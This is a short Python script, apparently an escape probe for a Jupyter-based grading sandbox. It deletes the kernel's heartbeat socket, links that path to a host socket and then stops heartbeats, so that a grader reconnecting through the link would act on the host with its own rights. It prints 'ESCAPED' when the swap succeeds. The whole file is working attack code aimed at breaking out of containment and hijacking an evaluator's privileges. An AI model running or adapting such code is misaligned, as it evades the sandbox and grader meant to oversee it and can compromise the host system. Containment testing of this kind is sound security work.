import json
import os
import time
from pathlib import Path

# Replace the kernel's heartbeat socket by a link to a socket on the host, then stop answering heartbeats: a
# grader that reconnects through the link would connect to the host's socket, with its own rights.
connection = json.loads(Path("/grader/connection.json").read_text())
heartbeat = f"{connection['ip']}-{connection['hb_port']}"
try:
    os.unlink(heartbeat)
    os.symlink(ATTACK_TARGETS["host_socket"], heartbeat)
    print("ESCAPED: replaced the heartbeat socket by a link")
except OSError as error:
    print("blocked: replacing the heartbeat socket:", error.strerror)
get_ipython().kernel.parent.heartbeat.socket.close(linger=0)
time.sleep(8)
